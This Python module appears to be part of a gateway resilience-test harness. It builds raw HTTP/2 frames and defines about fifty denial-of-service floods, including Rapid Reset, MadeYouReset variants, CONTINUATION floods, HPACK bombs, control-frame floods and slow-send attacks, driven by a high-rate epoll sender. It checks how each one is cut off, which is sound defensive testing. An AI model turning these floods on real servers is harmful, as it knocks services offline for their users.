"""Floods over HTTP/2 for attacks.py: frames made beforehand, sent as fast as they are taken.

Each is what CVEs are about or the RFC warns of (RFC 9113 § 10.5), and says how it shall end: with GOAWAY and a code, with a timeout,
or not at all where what is sent costs no more than any request.
"""

import contextlib
import dataclasses
import select
import socket
import statistics
import struct
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PUSH_PROMISE, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION, UNKNOWN = (*range(10), 0x42)
END_STREAM, ACK, END_HEADERS, PADDED = 0x1, 0x1, 0x4, 0x8
PROTOCOL_ERROR, STREAM_CLOSED, FRAME_SIZE_ERROR, ENHANCE_YOUR_CALM = 0x1, 0x5, 0x6, 0xB
INITIAL_WINDOW_SIZE, HEADER_TABLE_SIZE = 0x4, 0x1
STREAMS_MAX = 100
# So many streams of one connection in a piece, unless the attack needs others.
STREAMS_PER_PIECE = 50_000
# Connections are opened anew when they are ended, but not without bound.
CONNECTIONS_MAX = 20_000
PIECE_BYTES = 1 << 18
# So much longer an attack lasts at the most until a timeout has ended one of its connections.
TIMEOUT_MAX_S = 15
# Of what comes last: a GOAWAY may say more than its code.
TAIL_BYTES = 512


# ---- frames --------------------------------------------------------------------------------------------------


def frame(kind, flags=0, stream=0, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes((kind, flags)) + struct.pack(">I", stream) + payload


def settings(*pairs):
    return frame(SETTINGS, payload=b"".join(struct.pack(">HI", *pair) for pair in pairs))


def field(name, value):
    """A literal that leaves the dynamic table alone (RFC 7541 § 6.2.2)."""
    return b"\0" + number(len(name)) + name + number(len(value)) + value


def number(value, bits=7):
    """RFC 7541 § 5.1, without the first bits."""
    limit = (1 << bits) - 1
    if value < limit:
        return bytes((value,))
    value, octets = value - limit, bytearray((limit,))
    while value >= 128:
        octets.append(value % 128 + 128)
        value //= 128
    return bytes((*octets, value))


# :scheme http, :authority localhost, and the method and path by the static table where it has them.
AUTHORITY = b"\x86\x01\x09localhost"
GET = b"\x82\x84" + AUTHORITY
POST = b"\x83\x84" + AUTHORITY


def get(path):
    return b"\x82\x04" + number(len(path)) + path + AUTHORITY


def request(stream, block=GET, ends=True):
    return frame(HEADERS, END_HEADERS | (END_STREAM if ends else 0), stream, block)


def reset(stream, code=8):
    return frame(RST_STREAM, 0, stream, struct.pack(">I", code))


def window_update(stream, increment):
    return frame(WINDOW_UPDATE, 0, stream, struct.pack(">I", increment))


def on_streams(*makers, count=STREAMS_PER_PIECE):
    """What `makers` make of the numbers of a client's streams, one after the other."""
    return b"".join(make(number) for number in range(1, 2 * count, 2) for make in makers)


def hpack_bomb(stream):
    """4000 bytes go to the dynamic table, and 16,000 references bring them back: 64 MB."""
    entry = b"\x40" + number(1) + b"x" + number(3900) + b"y" * 3900
    block = GET + entry + b"\xbe" * 16_000
    return frame(HEADERS, END_STREAM, stream, block[:16_000]) + frame(CONTINUATION, END_HEADERS, stream, block[16_000:])


# ---- attacks -------------------------------------------------------------------------------------------------


@dataclasses.dataclass
class Flood:
    """What a connection sends once, what again and again, and how it ends."""

    make: object
    # Behind the preface.
    preamble: bytes = settings()
    # Whether `make` gives what is sent from its beginning when it has all been sent; else a new connection begins there.
    repeats: bool = False
    reads: bool = True
    # The code of the GOAWAY that shall stop it, "ended" where a timeout may do so, None where nothing need. A stream's error may be made one
    # of the connection (RFC 9113 § 5.4): that is a tuple of codes.
    end: object = ENHANCE_YOUR_CALM
    # The most streams that are open at once on a connection.
    streams: int = STREAMS_MAX
    # And how many of them have responses that wait for their reader.
    responses: int = 0
    # A piece now and then on many connections, instead of as fast as can be.
    is_slow: bool = False


def made_you_reset(*makers, code=None):
    return Flood(lambda: on_streams(*makers), end=(ENHANCE_YOUR_CALM, code) if code else ENHANCE_YOUR_CALM)


def open_streams(count=STREAMS_MAX, block=POST):
    return b"".join(request(stream, block, ends=False) for stream in range(1, 2 * count, 2))


BIG_REQUESTS = b"".join(request(stream, get(b"/big")) for stream in range(1, 2 * STREAMS_MAX, 2))
ONE_STREAM = settings() + request(1, POST, ends=False)

FLOODS = {
    # CVE-2023-44487, with requests for an origin and those that the gateway answers itself.
    "rapid reset": Flood(lambda: on_streams(request, reset)),
    "rapid reset of own": Flood(lambda: on_streams(lambda stream: request(stream, get(b"/here")), reset)),
    "reset of bodies": Flood(lambda: on_streams(lambda stream: request(stream, POST, ends=False), reset)),
    # CVE-2025-8671: the gateway is made to reset.
    "reset by window": made_you_reset(lambda stream: request(stream, POST, ends=False), lambda stream: window_update(stream, 0x7FFFFFFF)),
    "reset by zero window": made_you_reset(lambda stream: request(stream, POST, ends=False), lambda stream: window_update(stream, 0)),
    "reset by field": made_you_reset(lambda stream: request(stream, GET + field(b"Upper", b"x"))),
    "reset by hop field": made_you_reset(lambda stream: request(stream, GET + field(b"connection", b"close"))),
    "reset by late DATA": made_you_reset(request, lambda stream: frame(DATA, END_STREAM, stream, b"x"), code=STREAM_CLOSED),
    "reset by dependency": made_you_reset(
        lambda stream: request(stream, POST, ends=False), lambda stream: frame(PRIORITY, 0, stream, struct.pack(">IB", stream, 15))),
    "reset by length": made_you_reset(
        lambda stream: request(stream, POST + field(b"content-length", b"1"), ends=False), lambda stream: frame(DATA, END_STREAM, stream, b"xx")),
    "reset by PRIORITY size": made_you_reset(
        lambda stream: request(stream, POST, ends=False), lambda stream: frame(PRIORITY, 0, stream, b"1234"), code=FRAME_SIZE_ERROR),
    # Blocks.
    "empty CONTINUATION": Flood(lambda: frame(CONTINUATION, 0, 1) * 10_000, settings() + frame(HEADERS, 0, 1, GET), repeats=True, streams=1),
    "full CONTINUATION": Flood(
        lambda: frame(CONTINUATION, 0, 1, field(b"x", b"y" * 1000) * 16), settings() + frame(HEADERS, 0, 1, GET), repeats=True, streams=1),
    "HPACK bomb": Flood(lambda: on_streams(hpack_bomb, count=200)),
    "kept HPACK bomb": Flood(
        lambda: on_streams(lambda stream: request(stream, GET + b"\xbe" * 16_000), count=200),
        settings() + request(1, GET + b"\x40\1x" + number(3900) + b"y" * 3900, ends=False)),
    "HPACK table churn": Flood(lambda: on_streams(lambda stream: request(stream, get(b"/here") + b"\x40\0\0" * 800), count=5000)),
    "empty values": Flood(lambda: on_streams(lambda stream: request(stream, get(b"/here") + b"\0\1x\0" * 90), count=5000)),
    "empty names": Flood(lambda: on_streams(lambda stream: request(stream, GET + b"\0\0\0" * 90), count=5000)),
    "fields beyond a head": Flood(lambda: on_streams(lambda stream: request(stream, GET + b"\0\1x\1y" * 3000), count=500)),
    "cookie crumbs": Flood(lambda: on_streams(lambda stream: request(stream, get(b"/here") + b"\x0f\x11\x03a=b" * 700), count=500), end=None),
    "table size changes": Flood(lambda: on_streams(lambda stream: request(stream, b"\x20\x3f\xe1\x1f" + get(b"/here"))), end=None),
    # Frames that cost nothing to make.
    "SETTINGS": Flood(lambda: settings() * 20_000, repeats=True, streams=0),
    "unread SETTINGS": Flood(lambda: settings() * 20_000, repeats=True, streams=0, reads=False),
    "SETTINGS of windows": Flood(
        lambda: (settings((INITIAL_WINDOW_SIZE, 0)) + settings((INITIAL_WINDOW_SIZE, 65535))) * 10_000,
        settings((INITIAL_WINDOW_SIZE, 0)) + BIG_REQUESTS, repeats=True, responses=STREAMS_MAX),
    "2700 settings in one": Flood(lambda: settings(*[(INITIAL_WINDOW_SIZE, 65535)] * 2700) * 20, repeats=True, streams=0),
    "SETTINGS ACK": Flood(lambda: frame(SETTINGS, ACK) * 20_000, repeats=True, streams=0, end=None),
    "table size 4 GB": Flood(
        lambda: on_streams(lambda stream: request(stream, get(b"/here"))), settings((HEADER_TABLE_SIZE, 0xFFFFFFFF)), end=None),
    "PING": Flood(lambda: frame(PING, payload=b"12345678") * 20_000, repeats=True, streams=0),
    "unread PING": Flood(lambda: frame(PING, payload=b"12345678") * 20_000, repeats=True, streams=0, reads=False),
    "PING ACK": Flood(lambda: frame(PING, ACK, payload=b"12345678") * 20_000, repeats=True, streams=0, end=None),
    "empty DATA": Flood(lambda: frame(DATA, 0, 1) * 20_000, ONE_STREAM, repeats=True, streams=1),
    "padded empty DATA": Flood(lambda: frame(DATA, PADDED, 1, b"\xff" + bytes(255)) * 2000, ONE_STREAM, repeats=True, streams=1, end=None),
    "1-byte DATA": Flood(lambda: frame(DATA, 0, 1, b"x") * 20_000, ONE_STREAM, repeats=True, streams=1, end=None),
    "PRIORITY": Flood(lambda: on_streams(lambda stream: frame(PRIORITY, 0, stream, struct.pack(">IB", 0, 15))), repeats=True, streams=0),
    "PRIORITY_UPDATE": Flood(lambda: frame(0x10, 0, 0, struct.pack(">I", 1) + b"u=1") * 20_000, repeats=True, streams=0),
    "WINDOW_UPDATE": Flood(lambda: window_update(0, 1) * 20_000, repeats=True, streams=0),
    "WINDOW_UPDATE of stream": Flood(lambda: window_update(1, 1) * 20_000, ONE_STREAM, repeats=True, streams=1),
    "unknown frames": Flood(lambda: frame(UNKNOWN, 0, 0, b"x") * 20_000, repeats=True, streams=0),
    "unknown 16 KB frames": Flood(lambda: frame(UNKNOWN, 0, 0, bytes(16_384)) * 100, repeats=True, streams=0),
    "PUSH_PROMISE": Flood(
        lambda: frame(PUSH_PROMISE, END_HEADERS, 1, struct.pack(">I", 2) + GET) * 1000, ONE_STREAM, repeats=True, streams=1, end=PROTOCOL_ERROR),
    # Streams.
    "streams beyond 100": Flood(
        lambda: b"".join(request(stream) for stream in range(2 * STREAMS_MAX + 1, 100_000, 2)), settings() + open_streams()),
    "requests": Flood(lambda: on_streams(request), end=None),
    "requests of own": Flood(lambda: on_streams(lambda stream: request(stream, get(b"/here"))), end=None),
    "unread answers": Flood(lambda: on_streams(lambda stream: request(stream, get(b"/here"))), reads=False, end=None),
    # Its streams are given up, one by one, and the connection stays.
    "window 0": Flood(lambda: b"", settings((INITIAL_WINDOW_SIZE, 0)) + BIG_REQUESTS, repeats=True, reads=False, end=None,
                      responses=STREAMS_MAX),
    "unread big answers": Flood(
        lambda: b"", settings((INITIAL_WINDOW_SIZE, 0x7FFFFFFF)) + window_update(0, 0x7FFF0000 - 65535) + BIG_REQUESTS, repeats=True,
        reads=False, end="ended", responses=STREAMS_MAX),
    "window by bytes": Flood(
        lambda: b"".join(window_update(stream, 1) for stream in range(1, 2 * STREAMS_MAX, 2)) * 200,
        settings((INITIAL_WINDOW_SIZE, 0)) + BIG_REQUESTS, repeats=True, end=None, responses=STREAMS_MAX),
    # Slow ones.
    "slow preface": Flood(lambda: PREFACE[:1], b"", end="ended", streams=0, is_slow=True),
    "slow frame head": Flood(lambda: frame(DATA, 0, 1)[:1], settings(), end="ended", streams=0, is_slow=True),
    "slow HEADERS": Flood(lambda: b"\0", settings() + struct.pack(">I", 10_000)[1:] + bytes((HEADERS, 4, 0, 0, 0, 1)) + GET, end="ended", streams=1,
                          is_slow=True),
    "slow CONTINUATION": Flood(
        lambda: frame(CONTINUATION, 0, 1), settings() + frame(HEADERS, 0, 1, GET), end="ended", streams=1, is_slow=True),
    "slow DATA": Flood(lambda: frame(DATA, 0, 1, b"x"), settings() + open_streams(), end=None, is_slow=True),
}


# ---- sending -------------------------------------------------------------------------------------------------


class Sender:
    """A connection, how far it has come, and the end of what it received."""

    def __init__(self, attacker, flood):
        self.socket = attacker.connect("plain", None if flood.reads else 4096)
        self.socket.setblocking(False)
        self.began = time.monotonic()
        self.position = self.sent = 0
        self.tail = b""
        self.is_complete = False

    def goaway(self):
        """The code of a GOAWAY at the end of what came. Without one "ended", or "served" if all was sent and the client ended it."""
        place = self.tail.rfind(b"\x07\0\0\0\0\0")
        if place < 0 or len(self.tail) < place + 14:
            return "served" if self.is_complete else "ended"
        return struct.unpack(">I", self.tail[place + 10 : place + 14])[0]


class Report:
    """How connections were stopped."""

    def __init__(self):
        self.ends = {}
        self.bytes, self.seconds = [], []

    def note(self, sender):
        code = sender.goaway()
        self.ends[code] = self.ends.get(code, 0) + 1
        self.bytes.append(sender.sent)
        self.seconds.append(time.monotonic() - sender.began)

    def summary(self):
        found = {"ends": self.ends}
        if self.bytes:
            found.update(median_bytes=statistics.median(self.bytes), median_ms=statistics.median(self.seconds) * 1000)
        return found


def run(flood, data, attacker, connections):
    """Sends until the attacker's time is over; how connections were stopped."""
    report = Report()
    first = memoryview((b"" if flood.is_slow and not flood.preamble else PREFACE) + flood.preamble)
    data = memoryview(data)
    senders = {}
    poll = select.epoll()
    sink = bytearray(1 << 18)

    def begin():
        sender = Sender(attacker, flood)
        senders[sender.socket.fileno()] = sender
        poll.register(sender.socket.fileno(), select.EPOLLOUT | (select.EPOLLIN if flood.reads else select.EPOLLRDHUP))

    def end(sender, is_stopped):
        with contextlib.suppress(OSError):
            # What did not read so far looks for the GOAWAY.
            while is_stopped and not flood.reads and (count := sender.socket.recv_into(sink)):
                sender.tail = (sender.tail + sink[:count])[-TAIL_BYTES:]
        if is_stopped:
            report.note(sender)
        del senders[sender.socket.fileno()]
        poll.unregister(sender.socket.fileno())
        sender.socket.close()

    def receive(sender):
        try:
            count = sender.socket.recv_into(sink)
        except BlockingIOError:
            return
        except OSError:
            count = 0
        if count == 0:
            return end(sender, True)
        sender.tail = (sender.tail[-TAIL_BYTES:] + sink[max(0, count - TAIL_BYTES) : count])[-TAIL_BYTES:]

    def send(sender):
        """A piece. What ends the connection is found by receiving, where a GOAWAY may stand before."""
        rest = first[sender.position :] if sender.position < len(first) else data[sender.position - len(first) :]
        if not rest:
            # Without more to say it waits for its end.
            return poll.modify(sender.socket.fileno(), select.EPOLLIN if flood.reads else select.EPOLLRDHUP)
        try:
            count = sender.socket.send(rest[:PIECE_BYTES])
        except BlockingIOError:
            return
        except OSError:
            if sender.socket.fileno() in senders and not flood.reads:
                return end(sender, True)
            return poll.modify(sender.socket.fileno(), select.EPOLLIN)
        sender.position += count
        sender.sent += count
        attacker.bytes += count
        if sender.position == len(first) + len(data) and len(data) > 0:
            if flood.repeats:
                sender.position = len(first)
            else:
                # All that was sent is still read, and the gateway's end of the connection comes behind it.
                sender.is_complete = True
                with contextlib.suppress(OSError):
                    sender.socket.shutdown(socket.SHUT_WR)

    def is_over():
        """A timeout that shall end a connection begins when its origin has begun to answer: then it is waited for."""
        waits = flood.end == "ended" and not report.ends and time.monotonic() < attacker.deadline + TIMEOUT_MAX_S
        return attacker.is_over() and not waits

    while not is_over():
        while len(senders) < connections and attacker.connections < CONNECTIONS_MAX:
            try:
                begin()
            except OSError:
                break
        for descriptor, events in poll.poll(0.1):
            sender = senders.get(descriptor)
            if not sender:
                continue
            if events & (select.EPOLLIN | select.EPOLLHUP | select.EPOLLERR) and flood.reads:
                receive(sender)
            elif events & (select.EPOLLRDHUP | select.EPOLLHUP | select.EPOLLERR):
                end(sender, True)
                continue
            if descriptor in senders and events & select.EPOLLOUT:
                send(sender)
    for sender in list(senders.values()):
        end(sender, False)
    return report.summary()


def run_slow(flood, data, attacker, connections):
    """A piece now and then on every connection, until all are ended."""
    report = Report()
    first = (PREFACE if flood.preamble else b"") + flood.preamble
    senders = []
    for _ in range(connections):
        sender = Sender(attacker, flood)
        sender.socket.setblocking(True)
        attacker.send(sender.socket, first)
        sender.sent = len(first)
        senders.append(sender)
    while senders and not attacker.is_over():
        time.sleep(0.2)
        for sender in list(senders):
            try:
                attacker.send(sender.socket, data)
                sender.sent += len(data)
                while received := sender.socket.recv(65536, socket.MSG_DONTWAIT):
                    sender.tail = (sender.tail + received)[-TAIL_BYTES:]
                is_over = True
            except BlockingIOError:
                continue
            except OSError:
                is_over = True
            if is_over:
                report.note(sender)
                senders.remove(sender)
    return report.summary()


# ---- the good client -----------------------------------------------------------------------------------------


class GoodConnection:
    """One request after the other on a connection that stays open."""

    def __init__(self, port):
        self.socket = socket.create_connection(("127.0.0.1", port), timeout=30)
        self.socket.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        self.socket.sendall(PREFACE + settings() + window_update(0, 0x70000000))
        self.stream = -1
        self.received = b""

    def ask(self, waiting=0):
        """Whether a request was answered with 200 and all its content. Behind it go so many that nobody answers."""
        if waiting:
            result = self.ask()
            self.socket.sendall(b"".join(request(self.stream + 2 * number, get(b"/wait")) for number in range(1, waiting + 1)))
            return result
        self.stream += 2
        self.socket.sendall(request(self.stream, get(b"/good")))
        size, status = 0, b""
        while True:
            kind, flags, stream, payload = self.next_frame()
            if kind == SETTINGS and not flags & ACK:
                self.socket.sendall(frame(SETTINGS, ACK))
            elif kind == PING and not flags & ACK:
                self.socket.sendall(frame(PING, ACK, payload=payload))
            elif kind == GOAWAY or (kind == RST_STREAM and stream == self.stream):
                raise ConnectionError
            elif stream == self.stream:
                status = payload[:1] if kind == HEADERS and not status else status
                size += len(payload) if kind == DATA else 0
                if flags & END_STREAM:
                    return status == b"\x88" and size == 100

    def read_windows(self, count):
        """Asks for `count` large responses at once, and reads of each as much as the window of a stream lets through."""
        self.ask()
        self.socket.sendall(b"".join(request(self.stream + 2 * number, get(b"/big")) for number in range(1, count + 1)))
        left = count * 65535
        while left > 0:
            kind, _, _, payload = self.next_frame()
            left -= len(payload) if kind == DATA else 0
            if kind in (GOAWAY, RST_STREAM):
                raise ConnectionError

    def next_frame(self):
        head = self.take(9)
        return head[3], head[4], struct.unpack(">I", head[5:])[0], self.take(int.from_bytes(head[:3], "big"))

    def take(self, count):
        while len(self.received) < count:
            received = self.socket.recv(65536)
            if not received:
                raise ConnectionError
            self.received += received
        taken, self.received = self.received[:count], self.received[count:]
        return taken

    def close(self):
        self.socket.close()
